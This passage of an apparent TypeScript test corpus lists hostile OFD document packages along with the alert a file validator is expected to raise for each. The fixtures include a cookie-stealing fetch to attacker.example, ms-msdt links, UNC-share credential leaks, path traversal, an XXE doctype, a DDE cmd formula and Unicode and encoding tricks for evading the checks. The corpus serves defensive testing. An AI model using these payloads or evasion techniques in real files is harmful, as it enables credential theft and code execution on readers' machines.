    category: 'OFD executable',
    declared: 'ofd',
    // A compiled help file runs its pages' scripts when opened.
    bytes: () => ofdWith('', [{ name: 'Doc_0/Res/说明.chm', data: 'ITSF' }]),
    expect: 'EMBEDDED_EXECUTABLE',
  },
  {
    id: 'ofd-share-library',
    category: 'OFD executable',
    declared: 'ofd',
    // Opened, a library description browses the share it names as a local folder.
    bytes: () =>
      ofdWith('', [
        {
          name: 'Doc_0/Res/资料.library-ms',
          data: '<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\attacker.example\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
        },
      ]),
    expect: 'EMBEDDED_EXECUTABLE',
  },
  {
    id: 'ofd-open-uri',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('DO', '<ofd:URI URI="http://attacker.example/track"/>'),
    expect: 'OFD_ACTION',
  },

  {
    id: 'ofd-page-open-uri',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('PO', '<ofd:URI URI="file://attacker.example/x"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-sound',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', '<ofd:Sound ResourceID="9"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-movie',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('DO', '<ofd:Movie ResourceID="9" Operator="Play"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-goto-attachment',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', '<ofd:GotoA AttachID="20" NewWindow="true"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-uri-without-event',
    category: 'OFD action',
    declared: 'ofd',
    // No Event: not a click, so nothing says it waits for one.
    bytes: () => ofdPageAction('<ofd:URI URI="http://attacker.example/track"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-page-actions-open-unc',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdPageAction(`<ofd:URI URI="${UNC_SHARE}\\x"/>`, 'PO'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-annotation-sound',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAnnotationAction('CLICK', '<ofd:Sound ResourceID="9"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-outline-uri-on-open',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () =>
      ofdWith(
        '<ofd:Outlines><ofd:OutlineElem Title="目录"><ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="http://attacker.example/track"/></ofd:Action></ofd:Actions></ofd:OutlineElem></ofd:Outlines>',
      ),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-second-document-opens-uri',
    category: 'OFD action',
    declared: 'ofd',
    bytes: ofdSecondDocument,
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-media-file-url',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdMedia('http://attacker.example/track.png'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-media-file-unc',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdMedia(`${UNC_SHARE}\\image.png`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-font-file-url',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdFontFile('file://attacker.example/share/font.ttf'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-font-file-climbs-out',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdFontFile('../../../../../../Windows/Fonts/font.ttf'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-font-file-unc-in-cdata',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdFontFile(`<![CDATA[${UNC_SHARE}\\font.ttf]]>`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-resource-base-unc',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () =>
      ofdResources(
        '<ofd:Fonts><ofd:Font ID="2" FontName="宋体"><ofd:FontFile>font.ttf</ofd:FontFile></ofd:Font></ofd:Fonts>',
        UNC_SHARE,
      ),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-doc-root-url',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdRoot(['<ofd:DocRoot>http://attacker.example/Document.xml</ofd:DocRoot>']),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-custom-tags-unc',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdWith(`<ofd:CustomTags>${UNC_SHARE}\\tags.xml</ofd:CustomTags>`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-extensions-url',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdWith('<ofd:Extensions>http://attacker.example/ext.xml</ofd:Extensions>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-document-root-not-xml',
    category: 'OFD part the checks do not read',
    declared: 'ofd',
    bytes: () => ofdPartNamed('Doc_0/Document.dat', 'Doc_0/Document.dat', true),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-page-in-office-folder',
    category: 'OFD part the checks do not read',
    declared: 'ofd',
    bytes: () => ofdPartNamed('word/Content.xml', '/word/Content.xml'),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-utf16-action',
    category: 'OFD encoding',
    declared: 'ofd',
    bytes: () => ofdEncodedAction('UTF-16LE'),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-utf32-action',
    category: 'OFD encoding',
    declared: 'ofd',
    bytes: () => ofdEncodedAction('UTF-32BE'),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-utf7-action',
    category: 'OFD encoding',
    declared: 'ofd',
    bytes: () => ofdEncodedAction('UTF-7'),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-action-under-chinese-prefix',
    category: 'OFD action',
    declared: 'ofd',
    // `文:` bound to the OFD namespace: a reader sees an Action and a URI.
    bytes: ofdChinesePrefix,
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-attachment-under-accented-prefix',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: ofdAttachmentUnderAccentedPrefix,
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attachments-of-second-document',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: ofdAttachmentsOfSecondDocument,
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-uri-tag-over-64k',
    category: 'OFD action',
    declared: 'ofd',
    // 256 KiB of attribute before the URI: the check meets the tag in pieces.
    bytes: ofdLongUriTag,
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-click-link-to-share',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', `<ofd:URI URI="${UNC_SHARE}\\setup.exe"/>`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-to-local-file',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAnnotationAction('CLICK', '<ofd:URI URI=" file:///C:/Windows/System32/calc.exe"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-ms-msdt',
    category: 'OFD action',
    declared: 'ofd',
    // Handed to a program by its scheme, which acts on the link itself.
    bytes: () => ofdAction('CLICK', '<ofd:URI URI="ms-msdt:/id PCWDiagnostic /skip force"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-base-in-share',
    category: 'OFD action',
    declared: 'ofd',
    // A relative URI resolved against a share.
    bytes: () => ofdAction('CLICK', `<ofd:URI URI="setup.exe" Base="${UNC_SHARE}\\"/>`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-uri-click-and-prefixed-open-event',
    category: 'OFD action',
    declared: 'ofd',
    // A reader that takes the prefixed or the last Event runs it on opening.
    bytes: () =>
      ofdWith(
        '<ofd:Actions><ofd:Action Event="CLICK" ofd:Event="DO"><ofd:URI URI="http://attacker.example/track"/></ofd:Action></ofd:Actions>',
      ),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-object-action-uri-on-page-open',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdObjectAction('PO', '<ofd:URI URI="http://attacker.example/track"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-object-action-movie',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdObjectAction('CLICK', '<ofd:Movie ResourceID="9" Operator="Play"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-annotation-goto-attachment',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAnnotationAction('CLICK', '<ofd:GotoA AttachID="20"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-extend-data-url',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdExtendData('http://attacker.example/data.xml'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-version-file-list-url',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdVersion('Doc_0/Versions/Version_0.xml', 'http://attacker.example/Document.xml'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-version-not-xml',
    category: 'OFD part the checks do not read',
    declared: 'ofd',
    bytes: () => ofdVersion('Doc_0/Versions/Version_0.dat', 'Document.xml'),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-font-file-percent-escaped-unc',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdFontFile('%5C%5Cattacker.example%5Cshare%5Cfont.ttf'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-seal-in-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdSigned(`${UNC_SHARE}\\Seal.esl`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-signed-value-url',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdSigned('Seal.esl', 'http://attacker.example/SignedValue.dat'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-media-file-url-split-by-cdata',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // A reader joins the text and the CDATA section: http://…
    bytes: () => ofdMedia('ht<![CDATA[tp://attacker.example/track.png]]>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-font-file-climb-split-by-comment',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdFontFile('../../<!-- -->../../../../Windows/Fonts/font.ttf'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-font-file-unc-split-by-instruction',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdFontFile('/<?x?>/attacker.example/share/font.ttf'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-schema-hint-in-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // A validating reader fetches the schema, handing the share's host the reviewer's credentials.
    bytes: () => ofdSchemaHint(`http://www.ofdspec.org/2016 ${UNC_SHARE}\\ofd.xsd`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-font-file-climb-split-by-element',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // A reader joins the text on either side of the element: ../../../../../../Windows/…
    bytes: () => ofdFontFile('../../<b/>../../../../Windows/Fonts/font.ttf'),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-attachments-location-after-element',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // Document.xml's Attachments, its text after an element: a reader reads \\host\share\….
    bytes: () => ofdWith(`<ofd:Attachments><b/>${UNC_SHARE}\\Attachments.xml</ofd:Attachments>`),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-cover-in-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // DocInfo's cover picture: a reader showing the document's properties fetches it from the share.
    bytes: () => ofdCover(`${UNC_SHARE}\\cover.png`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-color-profile-url',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // A colour space's ICC profile, read to render the page.
    bytes: () => ofdColorProfile('http://attacker.example/srgb.icc'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-color-profile-unc',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdColorProfile(`${UNC_SHARE}\\srgb.icc`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-font-file-unc-slash-backslash',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // Windows reads `/\host\share` as the UNC path `\\host\share`.
    bytes: () => ofdFontFile('/\\attacker.example\\share\\font.ttf'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-prefixed-uri-to-share',
    category: 'OFD action',
    declared: 'ofd',
    // A web URI and a prefixed one into a share: a reader that takes the prefixed one goes there.
    bytes: () => ofdAction('CLICK', `<ofd:URI URI="https://www.miit.gov.cn/" ofd:URI="${UNC_SHARE}\\setup.exe"/>`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-prefixed-base-in-share',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () =>
      ofdAction('CLICK', `<ofd:URI URI="setup.exe" Base="https://www.miit.gov.cn/" ofd:Base="${UNC_SHARE}\\"/>`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-document-root-percent-escaped-into-word',
    category: 'OFD part the checks do not read',
    declared: 'ofd',
    // `word%2FDocument.xml`, decoded, is `word/Document.xml`: a part the zip walk reads as Word's.
    bytes: () => ofdPartNamed('word/Document.xml', 'word%2FDocument.xml', true),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-font-file-climbs-out-through-res-base',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // Each climbs four folders, inside the package alone; joined, a reader that unpacks it reads
    // a file of the reviewer's machine.
    bytes: () =>
      ofdResources(
        '<ofd:Fonts><ofd:Font ID="2" FontName="宋体"><ofd:FontFile>../../../../Windows/Fonts/simsun.ttc</ofd:FontFile></ofd:Font></ofd:Fonts>',
        '../../../..',
      ),
    expect: 'OFD_ACTION',
  },
  // Read as a URL parser reads it: a tab or line break inside a scheme is dropped, and so is a
  // control before a share (round 9).
  {
    id: 'ofd-click-link-program-scheme-split-by-tab',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', '<ofd:URI URI="ms-ms&#9;dt:/id PCWDiagnostic /skip force"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-control-before-share',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAnnotationAction('CLICK', `<ofd:URI URI="&#x1f;${UNC_SHARE}\\setup.exe"/>`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-base-scheme-split-by-line-break',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', '<ofd:URI URI="setup.exe" Base="fi&#10;le://attacker.example/share/"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-media-file-scheme-split-by-tab',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdMedia('ht&#9;tp://attacker.example/track.png'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-font-file-control-before-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdFontFile(`&#x1;${UNC_SHARE}\\simsun.ttc`),
    expect: 'OFD_ACTION',
  },
  // Values as the reader reads them: their bytes decoded in the part's encoding (a reader's trim
  // drops a no-break or ideographic space), full-width forms folded; the package's root part's
  // locations read from the package's root (round 10).
  {
    id: 'ofd-media-file-ideographic-space-before-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdMedia(`\u3000${UNC_SHARE}\\track.png`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-media-file-gbk-ideographic-space-before-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdMediaInGbk(Buffer.from([0xa1, 0xa1]), `${UNC_SHARE}\\track.png`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-no-break-space-before-share',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', `<ofd:URI URI="\u00a0${UNC_SHARE}\\setup.exe"/>`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-next-line-before-share',
    category: 'OFD action',
    declared: 'ofd',
    // U+0085 (NEL): a C1 control, and a space to Qt's and .NET's trim.
    bytes: () => ofdAnnotationAction('CLICK', `<ofd:URI URI="&#x85;${UNC_SHARE}\\setup.exe"/>`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-media-file-escaped-ideographic-space-before-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdMedia('%E3%80%80%5C%5Cattacker.example%5Cshare%5Ctrack.png'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-font-file-full-width-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdFontFile('＼＼attacker.example＼share＼simsun.ttc'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-full-width-drive',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAnnotationAction('CLICK', '<ofd:URI URI="Ｃ：＼Windows＼System32＼calc.exe"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-percent-escaped-share',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', '<ofd:URI URI="%5C%5Cattacker.example%5Cshare%5Csetup.exe"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-base-and-uri-join-into-share',
    category: 'OFD action',
    declared: 'ofd',
    // Each relative alone; a reader that concatenates them follows `//attacker.example/share/…`.
    bytes: () => ofdAction('CLICK', '<ofd:URI Base="/" URI="/attacker.example/share/setup.exe"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-document-root-climbs-out-of-package-root',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // OFD.xml sits at the package's root: one climb from there is outside it.
    bytes: () => ofdRoot(['<ofd:DocRoot>../Doc_0/Document.xml</ofd:DocRoot>']),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-media-file-climbs-by-dot-segments',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // Windows drops a segment's trailing dots and spaces: `...` and `.. ` climb as `..` does.
    bytes: () => ofdMedia('.../.. /.../.. /.../Windows/track.png'),
    expect: 'OFD_ACTION',
  },
  // Round 12: every format's decoded targets folded alike (../../../shared/validation/link-target.ts):
  // look-alike slashes, a combining mark, zero-width and direction marks; each VALID or a warning before.
  {
    id: 'ofd-media-file-fraction-slash-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdMedia('\u2044\u2044attacker.example\u2044share\u2044track.png'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-fraction-slash-share',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', '<ofd:URI URI="\u2044\u2044attacker.example\u2044share\u2044setup.exe"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-combining-mark-in-scheme',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAnnotationAction('CLICK', '<ofd:URI URI="ms-m\u0300sdt:/id PCWDiagnostic"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-zero-width-space-before-share',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAction('CLICK', `<ofd:URI URI="&#x200B;${UNC_SHARE}\\setup.exe"/>`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-click-link-zero-width-space-in-scheme',
    category: 'OFD action',
    declared: 'ofd',
    bytes: () => ofdAnnotationAction('CLICK', '<ofd:URI URI="ms-ms\u200bdt:/id PCWDiagnostic"/>'),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-font-file-right-to-left-mark-before-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdFontFile(`\u200f${UNC_SHARE}\\simsun.ttc`),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-resource-base-in-gbk-full-width-climbs',
    category: 'OFD location outside the package',
    declared: 'ofd',
    // A GBK resource list whose BaseLoc is `．．／．．／．．／．．` (A3 AE A3 AE A3 AF…): joined to a
    // font that climbs four folders, once decoded and folded, it leaves the package.
    bytes: () =>
      ofdReplacing(
        'Doc_0/PublicRes.xml',
        Buffer.concat([
          Buffer.from(
            '<?xml version="1.0" encoding="GBK"?>\n<ofd:Res xmlns:ofd="http://www.ofdspec.org/2016" BaseLoc="',
          ),
          Buffer.from(`${'a3aea3aea3af'.repeat(3)}a3aea3ae`, 'hex'),
          Buffer.from(
            '"><ofd:Fonts><ofd:Font ID="2"><ofd:FontFile>../../../../Windows/Fonts/simsun.ttc</ofd:FontFile></ofd:Font></ofd:Fonts></ofd:Res>',
          ),
        ]),
      ),
    expect: 'OFD_ACTION',
  },
  // Round 14, pinned: a location escaped twice, decoded by no reader we read even once, is
  // refused all the same (no genuine location escapes a percent sign).
  {
    id: 'ofd-media-file-share-escaped-twice',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () => ofdMedia('%255C%255Cattacker.example%255Cshare%255Ctrack.png'),
    expect: 'OFD_ACTION',
  },
  // Round 15: a web page under a picture's name, VALID before. No OFD reader renders it, but a
  // reviewer who unpacks the file and opens it runs its script in a browser.
  {
    id: 'ofd-html-page-named-as-picture',
    category: 'OFD executable',
    declared: 'ofd',
    bytes: () =>
      ofdWith('', [
        {
          name: 'Doc_0/Res/image1.png',
          data: '\r\n<!DOCTYPE html><script>fetch("http://attacker.example/t?"+document.cookie)</script>',
        },
      ]),
    expect: 'EMBEDDED_EXECUTABLE',
  },
  {
    id: 'ofd-html-page-by-name',
    category: 'OFD executable',
    declared: 'ofd',
    // Its first bytes are XML's, not sniffed as a page: refused by its name.
    bytes: () =>
      ofdWith('', [
        {
          name: 'Doc_0/Res/说明.xhtml',
          data: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>location="http://attacker.example/"</script></body></html>',
        },
      ]),
    expect: 'EMBEDDED_EXECUTABLE',
  },
  // Round 17: an attachment is accepted only as an e-invoice's XML data (ofd/attachments.ts);
  // these twins of it, whatever Format the list declares, stay refused.
  {
    id: 'ofd-attached-program-declared-xml',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () => ofdAttachedData('original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', windowsExecutable()),
    expect: 'EMBEDDED_EXECUTABLE',
  },
  {
    id: 'ofd-attached-xml-data-under-another-name',
    category: 'OFD attachment',
    declared: 'ofd',
    // XML, but in an entry the OFD checks do not read (not `.xml`).
    bytes: () => ofdAttachedData('original_invoice.dat', 'Doc_0/Attachs/original_invoice.dat', INVOICE_DATA),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-xml-outside-the-package',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () =>
      ofdAttachedData(`${UNC_SHARE}\\original_invoice.xml`, 'Doc_0/Attachs/original_invoice.xml', INVOICE_DATA),
    expect: 'OFD_ACTION',
  },
  {
    id: 'ofd-attached-xml-missing-from-the-package',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () => ofdAttachedData('/Doc_0/original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', INVOICE_DATA),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-picture-declared-xml',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () => ofdAttachedData('/Doc_0/Res/image_1.png', 'Doc_0/Res/image_1.png', png()),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-nested-ofd-declared-xml',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: async () => ofdAttachedData('original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', await ofdWith('')),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-pdf-declared-xml',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () => ofdAttachedData('original_invoice.xml', 'Doc_0/Attachs/original_invoice.xml', '%PDF-1.7\n'),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-docx-declared-xbrl',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: async () => ofdAttachedData('data.xml', 'Doc_0/Attachs/data.xml', await buildZip(docxEntries()), 'xbrl'),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-xhtml-page',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () =>
      ofdAttachedData(
        'original_invoice.xml',
        'Doc_0/Attachs/original_invoice.xml',
        '<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>location="http://attacker.example/"</script></body></html>',
      ),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-data-with-xhtml-script',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () =>
      ofdAttachedData(
        'original_invoice.xml',
        'Doc_0/Attachs/original_invoice.xml',
        INVOICE_DATA.replace(
          '<Note>',
          '<x:script xmlns:x="http://www.w3.org/1999/xhtml">fetch("http://attacker.example/t?"+document.cookie)</x:script><Note>',
        ),
      ),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-data-with-stylesheet',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () =>
      ofdAttachedData(
        'original_invoice.xml',
        'Doc_0/Attachs/original_invoice.xml',
        INVOICE_DATA.replace(
          '?>\n',
          '?>\n<?xml-stylesheet type="text/xsl" href="https://attacker.example/run.xsl"?>\n',
        ),
      ),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-data-with-doctype',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () =>
      ofdAttachedData(
        'original_invoice.xml',
        'Doc_0/Attachs/original_invoice.xml',
        INVOICE_DATA.replace('?>\n', '?>\n<!DOCTYPE Invoice [<!ENTITY x SYSTEM "http://attacker.example/x">]>\n'),
      ),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-attached-data-and-a-pdf',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () =>
      ofdAttachmentList(ofdAttachmentEntry('xml', 'original_invoice.xml', 'original_invoice.pdf'), [
        { name: 'Doc_0/Attachs/original_invoice.xml', data: INVOICE_DATA },
        { name: 'Doc_0/Attachs/original_invoice.pdf', data: '%PDF-1.7\n' },
      ]),
    expect: 'OFD_ATTACHMENT',
  }, // Round 17: parts an XML toolchain would read otherwise than the checks do.
  {
    id: 'ofd-page-xinclude-from-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () =>
      ofdReplacing(
        'Doc_0/Pages/Page_0/Content.xml',
        `<?xml version="1.0" encoding="UTF-8"?><ofd:Page xmlns:ofd="http://www.ofdspec.org/2016" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${UNC_SHARE}\\page.xml" parse="xml"/></ofd:Page>`,
      ),
    expect: 'OOXML_UNREADABLE',
  },
  {
    id: 'ofd-resources-xml-base-on-share',
    category: 'OFD location outside the package',
    declared: 'ofd',
    bytes: () =>
      ofdReplacing(
        'Doc_0/PublicRes.xml',
        `<?xml version="1.0" encoding="UTF-8"?><ofd:Res xmlns:ofd="http://www.ofdspec.org/2016" BaseLoc="Res" xml:base="file://attacker.example/share/"><ofd:Fonts><ofd:Font ID="2" FontName="宋体"><ofd:FontFile>simsun.ttf</ofd:FontFile></ofd:Font></ofd:Fonts></ofd:Res>`,
      ),
    expect: 'OOXML_UNREADABLE',
  }, // Round 18: attached data that another program opens as what the file or its list says.
  {
    id: 'ofd-attached-data-opened-in-excel',
    category: 'OFD attachment',
    declared: 'ofd',
    // Office's XML handler, Windows' program for .xml, opens it in Excel: a DDE formula.
    bytes: () =>
      ofdAttachedData(
        'original_invoice.xml',
        'Doc_0/Attachs/original_invoice.xml',
        `<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="发票"><Table><Row><Cell ss:Formula="=cmd|' /c calc'!A0"><Data ss:Type="Number">0</Data></Cell></Row></Table></Worksheet></Workbook>`,
      ),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-data-formatted-as-a-page',
    category: 'OFD attachment',
    declared: 'ofd',
    // Saved as original_invoice.html, a browser runs a script element in no namespace.
    bytes: () =>
      ofdAttachedData(
        'original_invoice.xml',
        'Doc_0/Attachs/original_invoice.xml',
        INVOICE_DATA.replace('</Invoice>', '<script>alert(document.cookie)</script></Invoice>'),
        'html',
      ),
    expect: 'OFD_ATTACHMENT',
  },
  {
    id: 'ofd-attached-data-named-as-an-hta',
    category: 'OFD attachment',
    declared: 'ofd',
    bytes: () =>
      ofdAttachmentList(ofdAttachmentEntry('xml', 'original_invoice.xml').replace('"original_invoice"', '"发票.hta"'), [
        { name: 'Doc_0/Attachs/original_invoice.xml', data: INVOICE_DATA },
      ]),
    expect: 'OFD_ATTACHMENT',
  },
];

export const ACTIVE_CORPUS: readonly CorpusItem[] = [...pdfItems, ...unreadablePdfs, ...officeItems, ...ofdItems];

/** The page tree again, rotated: what a benign update changes. */
const ROTATED_PAGES: PdfObj = { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 /Rotate 0 >>' };

